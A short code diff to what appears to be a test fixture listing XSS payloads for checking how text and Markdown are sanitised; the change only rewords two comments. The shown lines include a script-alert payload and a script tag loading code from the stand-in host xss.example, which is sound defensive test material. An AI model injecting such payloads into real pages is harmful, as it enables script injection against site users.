@@ -1,6 +1,6 @@
-/** What people have tried in order to get script into a page by way of text: raw HTML, links, and Markdown's own corners. For tests only. */
+/** XSS attacks through text: raw HTML, links and edge cases of Markdown. For tests only. */
 
-/** Raw HTML, as the OWASP cheat sheet on filter evasion collects it. */
+/** Raw HTML after the OWASP cheat sheet on filter evasion. */
 const HTML = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//xss.example/x.js></SCRIPT>',
